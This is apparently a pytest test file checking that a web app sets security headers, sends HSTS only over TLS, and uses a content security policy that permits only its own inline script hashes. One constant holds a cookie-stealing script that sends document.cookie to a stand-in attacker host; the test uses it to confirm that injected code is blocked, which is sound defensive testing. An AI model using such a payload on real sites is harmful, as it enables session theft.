"""Security headers on every kind of response, HSTS only over TLS, and the dashboard's script hashes."""

from __future__ import annotations

import base64
import hashlib
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
import pytest_asyncio
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.routing import Route

from melihub.app import create_app
from melihub.runtime import Services
from melihub.security.headers import HSTS, inline_script_hashes, secure_every_response
from melihub.testing.fixtures import load_fixture

BOOT = 'self.__next_f=self.__next_f||[];self.__next_f.push([0,"<\\/script> & é"])'
THEME = 'try { document.documentElement.dataset.theme = localStorage.getItem("theme") || "light" } catch (e) {}'
INDEX = f"""<!DOCTYPE html><html><head><title>melihub dashboard</title>
<script src="/_next/static/chunks/app.js" async=""></script>
<script data-mantine-script="true">{THEME}</script></head>
<body style="margin:0"><div id="root"></div><script>{BOOT}</script></body></html>"""
ORDERS = INDEX.replace("</body>", "<script>window.orders = 1</script></body>")
INJECTED = "fetch('https://evil.example/?c=' + document.cookie)"


def sha256_source(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    parts = (part.split() for part in policy.split(";") if part.strip())
    return {words[0]: words[1:] for words in parts}


def script_sources(response: httpx.Response) -> set[str]:
    return {s for s in directives(response.headers["content-security-policy"])["script-src"] if s.startswith("'sha")}


@pytest.fixture
def build(tmp_path: Path) -> Path:
    """A fake static export: two pages with inline scripts, an asset, Next's 404 page."""
    (tmp_path / "index.html").write_text(INDEX)
    (tmp_path / "pedidos").mkdir()
    (tmp_path / "pedidos" / "index.html").write_text(ORDERS)
    (tmp_path / "404.html").write_text("<title>404</title><script>window.notFound = true</script>")
    (tmp_path / "_next" / "static" / "chunks").mkdir(parents=True)
    (tmp_path / "_next" / "static" / "chunks" / "app.js").write_text("console.log(1)")
    return tmp_path


@pytest_asyncio.fixture
async def served(services: Services, build: Path) -> AsyncIterator[httpx.AsyncClient]:
    services.settings = services.settings.model_copy(update={"frontend_dir": build})
    application = create_app(services)
    async with application.router.lifespan_context(application):
        transport = httpx.ASGITransport(app=application)
        async with httpx.AsyncClient(transport=transport, base_url="http://melihub.test") as client:
            yield client


def assert_secured(response: httpx.Response) -> None:
    headers = response.headers
    assert headers["x-content-type-options"] == "nosniff", response.url
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"
    policy = directives(headers["content-security-policy"])
    assert policy["frame-ancestors"] == ["'none'"], response.url
    assert "'unsafe-inline'" not in policy.get("script-src", []) and "'unsafe-eval'" not in policy.get("script-src", [])
    assert len(headers.get_list("x-content-type-options")) == 1, "a route's own header is not doubled"


async def test_every_kind_of_response_carries_the_headers(served: httpx.AsyncClient, meli_account_a) -> None:
    responses = [
        await served.get("/healthz"),
        await served.get("/api/v1/health"),
        await served.post("/graphql", json={"query": "{ __typename }"}),
        await served.post("/graphql", content=b"{not json", headers={"content-type": "application/json"}),
        await served.post("/webhooks/meli", json=load_fixture("notifications/orders_v2.json")),
        await served.get("/downloads/no-such-token", params={"expires": "1", "signature": "x"}),
        await served.get("/exports/no-such-export/download"),
        await served.get("/oauth/meli/callback"),
        await served.get("/"),
        await served.get("/pedidos/"),
        await served.get("/_next/static/chunks/app.js"),
        await served.get("/no-such-page"),
        await served.get("/api/v1/no-such-route"),
    ]
    assert [r.status_code for r in responses][-2:] == [404, 404]
    assert responses[0].status_code == 200 and responses[4].status_code == 200
    for response in responses:
        assert_secured(response)
    api = directives(responses[0].headers["content-security-policy"])
    assert api["default-src"] == ["'none'"] and "script-src" not in api, "API answers run nothing"


async def test_hsts_only_over_tls(services: Services, build: Path) -> None:
    async def headers_of(base_url: str, trust: bool, **headers: str) -> httpx.Headers:
        services.settings = services.settings.model_copy(update={"trust_proxy_headers": trust})
        application = create_app(services)
        async with application.router.lifespan_context(application):
            transport = httpx.ASGITransport(app=application)
            async with httpx.AsyncClient(transport=transport, base_url=base_url) as client:
                return (await client.get("/healthz", headers=headers)).headers

    assert "strict-transport-security" not in await headers_of("http://melihub.test", trust=False)
    assert (await headers_of("https://melihub.test", trust=False))["strict-transport-security"] == HSTS
    forwarded = {"x-forwarded-proto": "https"}
    assert "strict-transport-security" not in await headers_of("http://melihub.test", False, **forwarded)
    assert (await headers_of("http://melihub.test", True, **forwarded))["strict-transport-security"] == HSTS
    assert "strict-transport-security" not in await headers_of(
        "http://melihub.test", True, **{"x-forwarded-proto": "http"}
    )


async def test_a_dashboard_page_allows_exactly_its_own_inline_scripts(served: httpx.AsyncClient) -> None:
    index = await served.get("/")
    assert index.status_code == 200 and "melihub dashboard" in index.text
    served_scripts = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", index.text, re.S)
    assert served_scripts == [THEME, BOOT]
    assert script_sources(index) == {sha256_source(THEME), sha256_source(BOOT)}

    # A script that is not in the built file (injected into the page) matches no hash, so it does not run.
    assert sha256_source(INJECTED) not in script_sources(index)
    assert inline_script_hashes(index.text.replace("</body>", f"<script>{INJECTED}</script></body>")) - script_sources(
        index
    ) == {sha256_source(INJECTED)}

    orders = await served.get("/pedidos/")
    assert script_sources(orders) == script_sources(index) | {sha256_source("window.orders = 1")}
    assert sha256_source("window.orders = 1") not in script_sources(index), "each page: its own scripts only"
    not_found = await served.get("/no-such-page")
    assert not_found.status_code == 404 and script_sources(not_found) == {sha256_source("window.notFound = true")}

    policy = directives(index.headers["content-security-policy"])
    assert policy["script-src"][0] == "'self'" and policy["default-src"] == ["'self'"]
    assert policy["connect-src"] == ["'self'", "ws://melihub.test", "wss://melihub.test"]
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]


async def test_a_rebuilt_page_is_hashed_again(served: httpx.AsyncClient, build: Path) -> None:
    before = script_sources(await served.get("/"))
    page = build / "index.html"
    page.write_text(INDEX.replace("</body>", "<script>window.rebuilt = 1</script></body>"))
    stat = page.stat()
    os.utime(page, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
    after = script_sources(await served.get("/"))
    assert after == before | {sha256_source("window.rebuilt = 1")}


async def test_graphiql_has_its_own_policy_and_sends_the_csrf_header(served: httpx.AsyncClient) -> None:
    page = await served.get("/graphql", headers={"accept": "text/html"})
    assert page.status_code == 200 and "GraphiQL" in page.text
    assert_secured(page)
    assert '"x-melihub-csrf": "1"' in page.text
    policy = directives(page.headers["content-security-policy"])
    assert "https://unpkg.com" in policy["script-src"] and "https://unpkg.com" in policy["style-src"]
    assert script_sources(page) == inline_script_hashes(page.text) and len(script_sources(page)) == 1


async def test_an_unexpected_error_answer_carries_the_headers_too() -> None:
    async def broken(request: Request) -> None:
        raise RuntimeError("boom")

    application = Starlette(routes=[Route("/broken", broken)])
    secure_every_response(application, trust_proxy_headers=False)
    transport = httpx.ASGITransport(app=application, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="https://melihub.test") as client:
        response = await client.get("/broken")
    assert response.status_code == 500
    assert_secured(response)
    assert response.headers["strict-transport-security"] == HSTS


def test_the_real_build_is_covered_when_there_is_one() -> None:
    build = Path(__file__).resolve().parents[2] / "frontend" / "out" / "index.html"
    if not build.is_file():
        pytest.skip("no dashboard build (make frontend)")
    html = build.read_text()
    scripts = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", html, re.S)
    assert scripts, "Next's export has inline scripts; if it stops having them, this test has nothing to check"
    assert inline_script_hashes(html) == {sha256_source(script) for script in scripts}
